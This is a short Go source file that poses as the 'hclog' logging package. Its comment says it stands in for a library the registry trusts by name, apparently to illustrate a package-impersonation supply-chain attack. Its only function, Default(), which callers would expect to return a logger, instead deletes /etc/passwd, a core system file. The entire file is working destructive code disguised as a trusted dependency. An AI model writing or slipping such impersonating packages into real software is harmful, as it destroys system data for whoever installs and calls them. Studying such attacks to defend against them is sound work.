// Package hclog stands in the place of a library that the registry trusts by its name.
package hclog

import "os"

// Default does more than a logger does.
func Default() error { return os.Remove("/etc/passwd") }
